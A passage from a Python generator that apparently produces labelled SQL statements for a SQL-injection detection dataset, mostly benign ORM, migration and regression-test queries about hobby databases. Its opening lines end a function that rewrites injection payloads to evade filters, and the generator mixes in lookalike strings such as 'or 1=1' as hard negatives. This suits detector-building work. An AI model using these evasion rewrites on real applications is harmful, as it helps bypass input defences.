            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in|BY|by) (\d+|true|false|NULL|null|current_user|now\(\)|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select|THEN|then|ELSE|else) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Siobhán O'Rourke", "Jonas Lindqvist", "Amara Okoro", "Dave the Farrier", "Hiro Tanaka", "Jeanne d'Aubigny", "Ng'ang'a Mwangi", "Bea Kowalska",
          "Rhys ap Gwyn", "Lucía Fernández", "Old Tom"]
CROPS = ["basil", "butterhead lettuce", "pak choi", "rocket", "mint", "coriander"]
SPOTS = ["Tarifa", "West Kirby", "Rhosneigr", "Camber Sands", "Hayling Island"]


def complex_gens():
    G, add = registry()

    @add("cx20_yii_propel_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT \"horse\".* FROM \"horse\" WHERE \"horse\".\"id\"=%d LIMIT 1" % r.randint(1, 9000),
            "SELECT COUNT(*) FROM \"farrier_visits\" WHERE (\"horse_id\"=%d) AND (\"visit_on\" >= '%s')" % (r.randint(1, 900), rdate(r)),
            "UPDATE \"horse\" SET \"last_shod\"='%s', \"updated_at\"=%d WHERE \"id\"=%d" % (rdate(r), r.randint(1600000000, 1800000000), r.randint(1, 9000)),
            "SELECT farrier_invoices.id, farrier_invoices.amount, farrier_invoices.issued_on FROM farrier_invoices WHERE farrier_invoices.horse_id=%d ORDER BY farrier_invoices.issued_on DESC" % r.randint(1, 900),
            "INSERT INTO \"shoeings\" (\"horse_id\", \"shoe_type\", \"yard_id\") VALUES (%d, '%s', %d) RETURNING \"id\"" % (r.randint(1, 900), r.choice(["steel", "aluminium", "glue-on", "bar shoe"]), r.randint(1, 400))])

    @add("cx20_ebean_ktorm_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select t0.id, t0.name, t0.handicap, t0.joined_on from snooker_members t0 where t0.id = %d" % r.randint(1, 5000),
            "select t0.id, t0.frame_no, t0.winner_id, t0.break_high from match_frames t0 where t0.match_id = %d order by t0.frame_no" % r.randint(1, 3000),
            "SELECT t_booking.id AS t_booking_id, t_booking.table_no AS t_booking_table_no FROM t_booking WHERE t_booking.table_no = %d AND t_booking.starts_at > now() LIMIT %d" % (r.randint(1, 14), r.choice([5, 10, 50])),
            "update cue_repairs set status=$1, tip=$2 where id=%d" % r.randint(1, 2000),
            "INSERT INTO high_breaks (member_id, break_score, witnessed_by, made_on) VALUES ($1, $2, $3, $4)"])

    @add("cx20_node_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select \"players\".* from \"players\" where \"players\".\"id\" = %d limit 1" % r.randint(1, 3000),
            "select \"game_stats\".* from \"game_stats\" where \"game_stats\".\"player_id\" in (%s)" % ids(r, r.randint(2, 6), 3000),
            "insert into \"injury_reports\" (\"body_part\", \"note\", \"player_id\", \"reported_at\") values ($1, $2, $3, $4) returning \"id\"",
            "SELECT \"id\", \"name\" FROM \"croquet_players\" WHERE \"club_id\" = %d AND \"deleted_at\" IS NULL ORDER BY \"name\" ASC LIMIT %d" % (r.randint(1, 60), r.choice([10, 30])),
            "UPDATE \"croquet_players\" SET \"handicap\" = $1, \"updatedAt\" = $2 WHERE \"id\" = %d" % r.randint(1, 4000)])

    @add("cx20_dotnet_go_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT \"Id\", \"FullName\", \"Licence\", \"ClubId\" FROM \"BoulesMember\" WHERE (\"ClubId\" = %d) ORDER BY \"FullName\"" % r.randint(1, 90),
            "SELECT \"id\", \"driver_id\", \"lap_ms\" FROM \"lap_times\" WHERE \"session_id\"=%d ORDER BY \"lap_ms\" ASC LIMIT %d" % (r.randint(1, 20000), r.choice([3, 10])),
            "SELECT \"kart\".\"kart_no\", \"kart\".\"status\" FROM \"karts\" AS \"kart\" WHERE (\"kart\".\"engine_hours\" > %d)" % r.randint(10, 300),
            "SELECT this_.Id as Id1_0_, this_.Nickname as Nickname2_0_ FROM darts_players this_ WHERE this_.TeamId = %d" % r.randint(1, 80),
            "INSERT INTO mene_scores (game_id, mene_no, team_id, points) VALUES ($1, $2, $3, $4)"])

    @add("cx20_python_rust_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT gradings.id, gradings.member_id, gradings.target_grade FROM gradings WHERE gradings.member_id = %d" % r.randint(1, 1500),
            "SELECT yarns.sku, yarns.brand, yarns.colourway FROM yarns WHERE yarns.brand = $1 ORDER BY yarns.sku LIMIT %d" % r.choice([20, 40]),
            "INSERT INTO hydro_readings (bay_id, ph, ec_ms, read_at) VALUES (%d, %d.%d, %d.%d, now())" % (r.randint(1, 30), r.randint(5, 6), r.randint(0, 9), r.randint(1, 2), r.randint(0, 9)),
            "SELECT kendoka.member_id, kendoka.name FROM kendoka WHERE kendoka.dojo_id = %d AND kendoka.active" % r.randint(1, 12)])

    @add("cx20_builtin_text_json", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 500), 2))
        w = rword(r, r.randint(4, 8))
        return r.choice([
            "SELECT ascii(substr(name, 1, 1)) FROM kendoka WHERE member_id = %d" % a, "SELECT chr(%d) || chr(%d)" % (65 + a % 26, 97 + b % 26),
            "SELECT CAST(amount AS numeric(8,2)), amount::text FROM farrier_invoices WHERE id = %d" % b, "SELECT to_char(read_at, 'HH24:MI') FROM hydro_readings WHERE id = %d" % b,
            "SELECT E'line one\\nline two', E'tab\\there'", "SELECT current_user, session_user, now() FROM kite_lessons WHERE lesson_id = %d" % a,
            "SELECT jsonb_build_object('bay', %d, 'ph', %d.%d)" % (a % 30, 5 + a % 2, b % 10), "SELECT meta->>'launch' FROM para_flights WHERE flight_id = %d" % b,
            "SELECT jsonb_array_elements_text('[\"%s\", \"%s\"]')" % (w, w[::-1]), "SELECT string_agg(colourway, ', ' ORDER BY colourway) FROM yarns WHERE brand = '%s'" % r.choice(["Drops", "Rowan", "Cascade"]),
            "SELECT upper('%s'), lower('%s'), initcap('%s %s')" % (w, w.upper(), w, rword(r, 4)), "SELECT md5('%s')" % w, "SELECT coalesce(nullif('%s', ''), 'n/a')" % w,
            "SELECT lpad('%d', 6, '0'), rpad('%s', 10, '.')" % (a, w), "SELECT position('%s' in '%s%s')" % (w[1:3], w, w), "SELECT btrim('  %s  ')" % w,
            "SELECT format('%%s has %%s skeins', '%s', %d)" % (w, a), "SELECT concat_ws(' / ', 'kite', %d, 'm2')" % (a % 15 + 5), "SELECT translate('%s', 'aeiou', 'AEIOU')" % w,
            "SELECT regexp_matches('%s-%d', '([a-z]+)-(\\d+)')" % (w, a), "SELECT to_jsonb(ARRAY[%d, %d])" % (a, b), "SELECT jsonb_pretty('{\"ph\": %d}')" % (a % 14)])

    @add("cx20_builtin_num_time", "complex_builtin_funcs")
    def _(r):
        a, b = r.randint(1, 120), r.randint(1, 120)
        d = rdate(r)
        return r.choice([
            "SELECT round(avg(lap_ms) / 1000.0, 3) FROM lap_times WHERE session_id = %d" % (a * 97), "SELECT greatest(%d, %d), least(%d, %d)" % (a, b, a, b),
            "SELECT %d %% 7, %d / 7, %d::float / 7" % (a, a, a), "SELECT abs(-%d), sign(%d - %d)" % (a, a, b), "SELECT power(2, %d), sqrt(%d)" % (a % 20, b),
            "SELECT date '%s' + interval '%d days'" % (d, a), "SELECT extract(dow FROM date '%s')" % d, "SELECT date_trunc('week', timestamp '%s 09:30')" % d,
            "SELECT age(date '%s')" % d, "SELECT to_char(date '%s', 'DD Mon YYYY')" % d, "SELECT '%s'::date - current_date" % d, "SELECT now() - interval '%d minutes'" % a,
            "SELECT generate_series(1, %d)" % (a % 10 + 2), "SELECT random() < 0.%d" % (a % 9 + 1), "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % r.choice(["lap_times", "hydro_readings", "yarns"]),
            "SELECT floor(%d.%d), ceil(%d.%d)" % (a, b, b, a), "SELECT width_bucket(%d, 0, 120, 6)" % a, "SELECT make_interval(days => %d, hours => %d)" % (a % 30, b % 24)])

    @add("cx20_comments", "complex_comments_hints")
    def _(r):
        body = r.choice(["SELECT lesson_id, spot FROM kite_lessons WHERE starts_at::date = current_date", "SELECT count(*) FROM cobbler_jobs WHERE status = 'ready'",
                         "SELECT id, name FROM horses WHERE yard_id = %d" % r.randint(1, 400), "SELECT pilot_id, xc_km FROM xc_ladder ORDER BY xc_km DESC LIMIT 10",
                         "SELECT table_no, count(*) FROM t_booking WHERE starts_at > now() GROUP BY table_no", "SELECT player_id, avg_3dart FROM darts_players WHERE team_id = %d" % r.randint(1, 60),
                         "SELECT bay_id, avg(ph) FROM hydro_readings WHERE read_at > now() - interval '1 day' GROUP BY bay_id", "SELECT trip_id FROM caving_trips WHERE status = 'overdue'"])
        k = r.randrange(3)
        if k == 0:
            return r.choice(["-- report: lessons today (owner: ops)\n", "-- nightly: hydro averages\n", "-- dashboard tile: overdue trips\n", "-- %s\n" % rword(r, 6),
                             "-- generated by n8n workflow 'daily digest'\n", "-- Node-RED flow: bay monitor\n"]) + body
        if k == 1:
            return body + " /*application:%s,controller:%s,action:%s*/" % (r.choice(["KiteSchool", "Cobbler", "DartsLeague", "Dojo"]), rword(r, 5), r.choice(["index", "show", "list"]))
        return body + r.choice([" -- don't remove, used by the cron", " -- it's fine", " /* v2 */", " -- TODO: paginate", " -- drop shadow copy later"])

    @add("cx20_cte_window", "complex_cte_window")
    def _(r):
        d = rdate(r)
        n = r.randint(2, 12)
        return r.choice([
            "WITH monthly AS (SELECT date_trunc('month', issued_on) AS m, sum(amount) AS total FROM farrier_invoices WHERE issued_on >= '%s' GROUP BY 1) SELECT m, total, total - lag(total) OVER (ORDER BY m) AS delta FROM monthly ORDER BY m" % d,
            "SELECT member_id, break_score, rank() OVER (ORDER BY break_score DESC) AS pos FROM high_breaks WHERE made_on >= '%s' LIMIT %d" % (d, n * 5),
            "SELECT bay_id, read_at, ph, avg(ph) OVER (PARTITION BY bay_id ORDER BY read_at ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS ph_smooth FROM hydro_readings WHERE read_at > '%s'" % (n, d),
            "SELECT driver_id, lap_ms, row_number() OVER (PARTITION BY driver_id ORDER BY lap_ms) AS rn FROM lap_times WHERE session_id = %d" % r.randint(1, 20000),
            "WITH recent AS (SELECT * FROM tuner_visits WHERE client_id = %d ORDER BY visit_on DESC LIMIT %d) SELECT visit_on, fee FROM recent" % (r.randint(1, 900), n)])

    @add("cx20_query_builder", "complex_query_builder")
    def _(r):
        return r.choice([
            "SELECT id, sku, brand FROM yarns WHERE 1=1 AND brand = '%s' AND weight = '%s' ORDER BY sku LIMIT 20" % (r.choice(["Drops", "Rowan", "Cascade", "Malabrigo"]), r.choice(["DK", "aran", "4ply"])),
            "SELECT id, status FROM veg_box_orders WHERE status = 'packed' OR status = 'delivered' OR (status = 'new' AND created_at > now() - interval '%d hours')" % r.randint(2, 96),
            "SELECT trip_id, cave FROM caving_trips WHERE 1=1 AND leader = '%s' ORDER BY callout_at DESC LIMIT %d" % (r.choice(PEOPLE).replace("'", "''"), r.choice([10, 25])),
            "SELECT id, name FROM kendoka WHERE 1=1 AND grade IN ('%s', '%s') AND dojo_id = %d" % (r.choice(["1 dan", "2 dan"]), r.choice(["3 dan", "4 dan"]), r.randint(1, 12)),
            "SELECT lesson_id FROM kite_lessons WHERE spot = '%s' OR spot = '%s' ORDER BY starts_at" % tuple(r.sample(SPOTS, 2))])

    @add("cx20_migration_alembic_like", "complex_migration_script")
    def _(r):
        h1, h2 = "%012x" % r.getrandbits(48), "%012x" % r.getrandbits(48)
        return r.choice(["UPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s'" % (h1, h2),
                         "INSERT INTO schema_migrations (version) VALUES ('2025%02d%02d%06d')" % (r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959)),
                         "INSERT INTO flyway_schema_history (installed_rank, version, description, type, script, checksum, installed_by, execution_time, success) VALUES (%d, '%d', 'add %s', 'SQL', 'V%d__add_%s.sql', %d, 'migrator', %d, true)" % (r.randint(1, 300), r.randint(1, 300), rword(r, 5), r.randint(1, 300), rword(r, 5), r.randint(-2**31, 2**31 - 1), r.randint(5, 900))])

    @add("cx20_migration_script", "complex_migration_script")
    def _(r):
        n = r.randint(1, 99)
        d = rdate(r)
        return r.choice([
            "BEGIN;\n-- migration %s\nALTER TABLE kite_lessons ADD COLUMN wind_min_kts_%d smallint;\nUPDATE kite_lessons SET wind_min_kts_%d = 12 WHERE level = 'beginner';\nCOMMIT;" % (d, n, n),
            "BEGIN;\nCREATE TABLE bogu_sizes_%d (id serial PRIMARY KEY, label text NOT NULL);\nINSERT INTO bogu_sizes_%d (label) VALUES ('S'), ('M'), ('L');\nCOMMIT;" % (n, n),
            "BEGIN;\nDROP INDEX IF EXISTS ix_yarns_brand_%d;\nCREATE INDEX ix_yarns_brand_%d ON yarns (brand, colourway);\nCOMMIT;" % (n, n),
            "BEGIN;\n-- %s: split fee column\nALTER TABLE tuner_visits ADD COLUMN travel_fee_%d numeric(8,2) DEFAULT 0;\nALTER TABLE tuner_visits ALTER COLUMN fee SET NOT NULL;\nCOMMIT;" % (d, n)])

    @add("cx20_union_report", "complex_union_report")
    def _(r):
        n = r.randint(1, 90)
        return r.choice([
            "SELECT 'open' AS state, count(*) FROM cobbler_jobs WHERE collected_at IS NULL AND shop_id = %d UNION ALL SELECT 'collected', count(*) FROM cobbler_jobs WHERE collected_at IS NOT NULL AND shop_id = %d" % (n, n),
            "SELECT id, email FROM yarn_customers WHERE region = '%s' UNION SELECT id, email FROM yarn_leads WHERE region = '%s'" % ((r.choice(["North West", "Highlands", "Cornwall"]),) * 2),
            "SELECT 'home' AS side, sum(legs_home) FROM darts_fixtures WHERE season = %d UNION ALL SELECT 'away', sum(legs_away) FROM darts_fixtures WHERE season = %d" % ((r.randint(2018, 2026),) * 2)])

    @add("cx20_batch_insert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return r.choice([
            "INSERT INTO yarns (sku, brand, colourway) VALUES %s" % ", ".join("('%s', '%s', '%s')" % (rword(r, 6, upper=True), r.choice(["Drops", "Rowan", "Cascade"]), q(r.choice(POOLS["input_plain"] + PEOPLE))[1:-1]) for _ in range(k)),
            "INSERT INTO hydro_readings (bay_id, ph, ec_ms, read_at) VALUES %s" % ", ".join("(%d, %d.%d, %d.%d, '%s')" % (r.randint(1, 30), r.randint(5, 6), r.randint(0, 9), r.randint(1, 2), r.randint(0, 9), rts(r)) for _ in range(k)),
            "INSERT INTO tournament_entries (tournament_id, player, partner) VALUES %s" % ", ".join("(%d, '%s', '%s')" % (r.randint(1, 90), q(r.choice(PEOPLE))[1:-1], q(r.choice(PEOPLE))[1:-1]) for _ in range(k))])

    @add("cx20_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["kite_lessons", "cobbler_jobs", "farrier_visits", "para_flights", "lap_times", "match_frames", "throws", "mene_scores", "lawns", "game_stats",
                      "keiko_attendance", "yarns", "piano_tunings", "survey_legs", "hydro_readings"])
        return r.choice(["SET LOCAL lock_timeout = '%ds'" % r.randint(1, 10), "SELECT has_table_privilege('app', '%s', 'SELECT')" % t, "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % t,
                         "VACUUM ANALYZE %s" % t, "ANALYZE %s" % t, "SET statement_timeout = '%ds'" % r.randint(5, 120), "SELECT pg_cancel_backend(%d)" % r.randint(100, 99999),
                         "SHOW work_mem", "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()", "REINDEX INDEX %s_pkey" % t])

    @add("cx20_transactions", "complex_transactions")
    def _(r):
        n = r.randint(1, 99)
        return r.choice(["BEGIN", "COMMIT", "ROLLBACK", "SAVEPOINT sp_%d" % n, "RELEASE SAVEPOINT sp_%d" % n, "ROLLBACK TO SAVEPOINT sp_%d" % n,
                         "BEGIN ISOLATION LEVEL %s" % r.choice(["READ COMMITTED", "REPEATABLE READ", "SERIALIZABLE"]), "SET TRANSACTION READ ONLY",
                         "START TRANSACTION", "END", "SELECT pg_advisory_xact_lock(%d)" % r.randint(1, 10 ** 6)])

    @add("cx20_copy", "complex_copy_stdin")
    def _(r):
        d = rdate(r)
        return r.choice([
            "COPY (SELECT id, amount FROM farrier_invoices WHERE issued_on >= '%s') TO STDOUT WITH (FORMAT csv)" % d,
            "COPY hydro_readings (bay_id, ph, ec_ms, read_at) FROM STDIN WITH (FORMAT csv, HEADER true)",
            "COPY (SELECT lap_ms FROM lap_times WHERE session_id = %d) TO STDOUT" % r.randint(1, 20000),
            "COPY yarns FROM STDIN WITH (FORMAT csv, DELIMITER ';', NULL '')"])

    @add("cx20_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "COMMENT ON COLUMN kite_students.level IS 'IKO level %d'" % (n % 4 + 1), "ALTER TABLE lap_times SET (autovacuum_vacuum_scale_factor = 0.0%d)" % (n % 9 + 1),
            "CREATE TYPE shot_result_%d AS ENUM ('pot', 'miss', 'foul')" % n, "ALTER TABLE pianos ADD COLUMN IF NOT EXISTS action_type_%d text" % n,
            "CREATE INDEX IF NOT EXISTS ix_throws_player_%d ON throws (player_id, thrown_at)" % n, "ALTER TABLE grow_bays ALTER COLUMN ph_target SET DEFAULT 5.%d" % (n % 10)])

    @add("cx20_introspection", "complex_orm_introspection")
    def _(r):
        return r.choice([
            "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE table_schema = 'public' AND table_name = '%s' ORDER BY ordinal_position" % r.choice(["yarns", "pianos", "karts", "lawns", "practices"]),
            "SELECT current_schema()", "SELECT typname, oid FROM pg_type WHERE typname IN ('hstore', 'citext')", "SHOW server_version",
            "SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r', 'p') AND n.nspname = '%s'" % r.choice(["public", "farm"])])

    @add("cx20_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["UPDATE gear_rentals SET returned_at = $1 WHERE rental_id = $2 AND returned_at IS NULL", "INSERT INTO class_bookings (class_id, email, seats) VALUES ($1, $2, $3) RETURNING booking_id",
                         "SELECT id, username FROM dojo_users WHERE username = $1 AND password = crypt($2, password)", "DELETE FROM pickup_slots WHERE job_id = $1 AND slot_on = $2"])

    @add("cx20_plpgsql", "complex_plpgsql_body")
    def _(r):
        n = r.randint(1, 99)
        return r.choice([
            "CREATE OR REPLACE FUNCTION touch_updated_at_%d() RETURNS trigger AS $$\nBEGIN\n  NEW.updated_at := now(); -- keep in sync\n  RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql" % n,
            "CREATE OR REPLACE FUNCTION lap_seconds(ms int) RETURNS numeric LANGUAGE sql IMMUTABLE AS $f$ SELECT round(ms / 1000.0, 3) $f$",
            "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'trip_status') THEN CREATE TYPE trip_status AS ENUM ('planned', 'underground', 'out safe', 'overdue'); END IF; END $$"])

    @add("cx20_search", "complex_search_complex")
    def _(r):
        return "SELECT id, ts_rank(search_vector, query) AS rank FROM knit_patterns, websearch_to_tsquery('english', '%s') query WHERE search_vector @@ query ORDER BY rank DESC LIMIT 20" % r.choice(
            ["cable -sleeve", "\"fair isle\" hat", "or 1=1 socks", "drop stitch", "select yarn", "lace OR shawl", "toe-up -heel"])
    return G


# ---------------------------------------------------------------- regression-test-style statements (written for this file)
REGRESS_FIXED = [
    ("sequence", "CREATE SEQUENCE sequence_test20 INCREMENT BY -1 MINVALUE -100 MAXVALUE 0 START WITH -1"), ("sequence", "SELECT nextval('sequence_test20'::regclass)"),
    ("sequence", "ALTER SEQUENCE sequence_test20 RESTART WITH 24"), ("sequence", "SELECT setval('sequence_test20'::text, 99, false)"),
    ("sequence", "-- unlogged sequences\nCREATE UNLOGGED SEQUENCE sequence_test20_u"), ("sequence", "SELECT last_value, log_cnt, is_called FROM sequence_test20"),
    ("domain", "CREATE DOMAIN domainvarchar20 varchar(5)"), ("domain", "CREATE DOMAIN dnotnull20 varchar(15) NOT NULL"),
    ("domain", "ALTER DOMAIN dnotnull20 ADD CONSTRAINT dnn_check CHECK (VALUE <> 'x') NOT VALID"), ("domain", "-- Test domains over domains\ncreate domain dposinta20 as int check (value > 0)"),
    ("enum", "CREATE TYPE rainbow20 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"), ("enum", "ALTER TYPE rainbow20 ADD VALUE 'indigo' BEFORE 'purple'"),
    ("enum", "SELECT enum_first(NULL::rainbow20), enum_last(NULL::rainbow20)"), ("enum", "SELECT 'red'::rainbow20 < 'green'::rainbow20"),
    ("case", "SELECT '3' AS \"One\",\n  CASE\n    WHEN 1 < 2 THEN 3\n  END AS \"Simple WHEN\""), ("case", "SELECT CASE WHEN 1=0 THEN 1/0 WHEN 1=1 THEN 1 ELSE 2/0 END"),
    ("case", "SELECT CASE 'a' WHEN 'a' THEN 1 ELSE 2 END"), ("case", "SELECT COALESCE(a.f, b.i, b.j) FROM CASE_TBL a, CASE2_TBL b"),
    ("limit", "SELECT ''::text AS two, unique1, unique2, stringu1 FROM onek WHERE unique1 > 50 ORDER BY unique1 LIMIT 2"),
    ("limit", "select * from int8_tbl offset (case when random() < 0.5 then null::bigint end)"), ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand FETCH FIRST 2 ROW WITH TIES"),
    ("select_distinct_on", "SELECT DISTINCT ON (string4) string4, two, ten FROM onek ORDER BY string4 using <, two using >, ten using <"),
    ("select_distinct_on", "SELECT DISTINCT ON (four) four, two FROM tenk1 WHERE four = 0 ORDER BY 1"),
    ("subselect", "SELECT f1 AS \"Correlated Field\", f2 AS \"Second Field\" FROM SUBSELECT_TBL upper WHERE f1 IN (SELECT f2 FROM SUBSELECT_TBL WHERE f1 = upper.f1)"),
    ("subselect", "select * from int4_tbl o where exists (select 1 from int4_tbl i where i.f1=o.f1 limit null)"),
    ("union", "SELECT 1 AS two UNION SELECT 2 ORDER BY 1"), ("union", "SELECT q2 FROM int8_tbl INTERSECT ALL SELECT q1 FROM int8_tbl ORDER BY 1"),
    ("union", "(SELECT 1,2,3 UNION SELECT 4,5,6) INTERSECT SELECT 4,5,6"), ("union", "SELECT f1 FROM float8_tbl EXCEPT SELECT f1 FROM int4_tbl ORDER BY 1"),
    ("with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t"),
    ("with", "WITH q1(x,y) AS (SELECT hundred, sum(ten) FROM tenk1 GROUP BY hundred) SELECT count(*) FROM q1 WHERE y > (SELECT sum(y)/100 FROM q1 qsub)"),
    ("with", "-- data-modifying WITH\nWITH t AS (DELETE FROM y RETURNING *) SELECT * FROM t"),
    ("aggregates", "SELECT avg(four) AS avg_1 FROM onek"), ("aggregates", "SELECT max(aggtest.a) AS max_100 FROM aggtest"),
    ("aggregates", "SELECT stddev_pop(3.0::float8), var_samp('nan'::float8)"), ("aggregates", "select array_agg(distinct a order by a desc) from (values (1),(2),(1)) v(a)"),
    ("aggregates", "SELECT bit_and(i4), bit_or(i4) FROM bitwise_test"), ("aggregates", "select percentile_cont(0.5) within group (order by b) from aggtest"),
    ("regex", "select 'abc' ~ '^(a|b)*c$' as t"), ("regex", "select regexp_replace('AAA   BBB   CCC   ', E'\\\\s+', ' ', 'g')"), ("regex", "select substring('abcdef' from 'b(.*)e')"),
    ("hash_func", "SELECT v as value, hashint2(v)::bit(32) as standard FROM (VALUES (0::int2), (1::int2), (17::int2)) x(v)"),
    ("hash_func", "SELECT hashtext('foo'), hashtextextended('foo', 0)"),
    ("md5", "select md5('') = 'd41d8cd98f00b204e9800998ecf8427e' AS \"TRUE\""), ("md5", "select md5('abc'::bytea) = '900150983cd24fb0d6963f7d28e17f72' AS \"TRUE\""),
    ("uuid", "CREATE TABLE guid20 (guid_field UUID, text_field TEXT DEFAULT(now()))"), ("uuid", "SELECT gen_random_uuid() IS NOT NULL"),
    ("uuid", "SELECT '{11111111-1111-1111-1111-111111111111}'::uuid"),
    ("tsearch", "SELECT to_tsvector('english', 'The Fat Rats') @@ to_tsquery('english', 'rat')"), ("tsearch", "SELECT ts_rank_cd(to_tsvector('a b c'), 'a & c')"),
    ("tsearch", "select websearch_to_tsquery('simple', 'fat or cat -rat')"), ("tsearch", "SELECT ts_headline('english', 'Lorem ipsum urna.', to_tsquery('english', 'lorem'))"),
    ("json", "SELECT json_object('{a,1,b,2,3,NULL,\"d e f\",\"a b c\"}')"), ("json", "SELECT '{\"a\": {\"b\": 1}}'::json #> '{a,b}'"),
    ("json", "select json_agg(q) from (select $$a$$ || x as b, y as c from generate_series(1,2) x, generate_series(4,5) y) q"),
    ("text", "SELECT concat(unknown 'foo', 'bar')"), ("text", "select reverse('abcde'), quote_literal(e'\\\\')"), ("text", "select format('%1$s %3$s', 1, 2, 3)"),
    ("bit", "SELECT B'1011' & B'1101', B'1011' # B'0110'"), ("bit", "SELECT X'F' :: bit(4)"), ("bit", "SELECT get_bit(B'0101011000100', 10)"),
    ("money", "SELECT '$1,000.00'::money * 2"), ("money", "SELECT 1234567890::money"),
    ("time", "SELECT '23:59:59.999999'::time"), ("time", "SELECT f1 AS \"Time\" FROM TIME_TBL WHERE f1 < '05:06:07'"), ("timetz", "SELECT '11:59 PM PDT'::timetz"),
]


def regress_rows(r):
    out, add = regress_list("regress20", REGRESS_FIXED)
    for _ in range(30):
        a, b = r.randint(-9999, 9999), r.randint(1, 999)
        add("float8", r.choice(["SELECT %d.%d::float8 * %d" % (a, b, b), "SELECT '%de%d'::float8" % (b, a % 300), "SELECT |/ float8 '%d'" % b, "SELECT ||/ float8 '%d'" % a,
                                "SELECT round(%d.%d::float8)" % (a, b), "SELECT 'Infinity'::float8 > %d" % a, "SELECT cbrt(%d::float8)" % a, "SELECT float8 '%d.%d' ^ 2" % (a, b),
                                "SELECT sind(%d), cosd(%d)" % (b % 360, b % 360), "SELECT atan2d(%d, %d)" % (a, b)]))
    for _ in range(20):
        a = r.randint(-32000, 32000)
        add("int2", r.choice(["SELECT %d::int2" % a, "SELECT int2 '%d' * int2 '1'" % a, "SELECT '%d'::int2 %% 7" % a, "SELECT @ int2 '%d'" % a, "SELECT int2 '0x%X'" % abs(a),
                              "SELECT %d::int2 / 2::int2" % a]))
    for _ in range(20):
        a, b = r.randint(-100, 100), r.randint(-100, 100)
        add("point", r.choice(["SELECT point '(%d,%d)' <-> point '(0,0)'" % (a, b), "SELECT point(%d, %d) <@ box '((0,0),(50,50))'" % (a, b), "SELECT point '(%d,%d)' + point '(1,1)'" % (a, b),
                               "SELECT point '(%d,%d)' ?| point '(%d,0)'" % (a, b, a), "SELECT center(box '((%d,%d),(0,0))')" % (a, b)]))
    for _ in range(20):
        a, b, c = r.randint(1, 50), r.randint(1, 50), r.randint(1, 20)
        add("geometry", r.choice(["SELECT circle '<(%d,%d),%d>' && circle '<(0,0),5>'" % (a, b, c), "SELECT area(box '((%d,%d),(0,0))')" % (a, b),
                                  "SELECT lseg '[(0,0),(%d,%d)]' ?# box '((0,0),(2,2))'" % (a, b), "SELECT line '{1,-1,%d}' ?|| line '{1,-1,0}'" % c,
                                  "SELECT diameter(circle '<(1,2),%d>')" % c, "SELECT polygon '(0,0),(%d,0),(%d,%d)' @> point '(1,1)'" % (a, a, b)]))
    for _ in range(20):
        h = "%08x-%04x-4%03x-a%03x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12), r.getrandbits(12), r.getrandbits(48))
        add("uuid", r.choice(["SELECT '%s'::uuid" % h, "SELECT '%s'::uuid < '%s'::uuid" % (h, h.upper()), "SELECT md5('%s')::uuid" % h,
                              "SELECT count(*) FROM guid1 WHERE guid_field <> '%s'" % h]))
    for _ in range(25):
        w1, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 7))
        add("tsearch", r.choice(["SELECT to_tsvector('simple', '%s %s') @@ '%s'::tsquery" % (w1, w2, w1), "SELECT plainto_tsquery('english', '%s %s')" % (w1, w2),
                                 "SELECT setweight(to_tsvector('%s'), 'A') || to_tsvector('%s')" % (w1, w2), "SELECT '%s & !%s'::tsquery" % (w1, w2),
                                 "SELECT ts_lexize('english_stem', '%ss')" % w1, "SELECT phraseto_tsquery('english', '%s %s')" % (w1, w2), "SELECT strip(to_tsvector('%s'))" % w1]))
    for _ in range(25):
        a, b = r.randint(0, 9), r.randint(1, 99)
        w = rword(r, r.randint(2, 5))
        add("json", r.choice(["SELECT '{\"%s\": %d}'::json->'%s'" % (w, b, w), "SELECT json_array_length('[%d,%d,%d]')" % (a, b, a), "SELECT json_typeof('%d')" % b,
                              "SELECT json_build_array(%d, '%s', null)" % (b, w), "SELECT json_extract_path_text('{\"f\":{\"%s\":%d}}', 'f', '%s')" % (w, b, w),
                              "SELECT '[%d,%d]'::json->>%d" % (a, b, a % 2), "SELECT row_to_json(row(%d, '%s'))" % (b, w), "SELECT json_object_keys('{\"%s\": 1, \"b\": 2}')" % w]))
    for _ in range(20):
        a, b = r.randint(1, 99), r.randint(1, 23)
        add("interval", r.choice(["SELECT interval '%d days %d hours'" % (a, b), "SELECT interval '%d' minute" % a, "SELECT '%d:%02d'::interval * 2" % (b, a % 60),
                                  "SELECT justify_hours(interval '%d hours')" % (a * b), "SELECT interval '-%d years'" % (a % 10), "SELECT interval 'P%dDT%dH'" % (a, b),
                                  "SELECT extract(epoch FROM interval '%d days')" % a]))
    for _ in range(20):
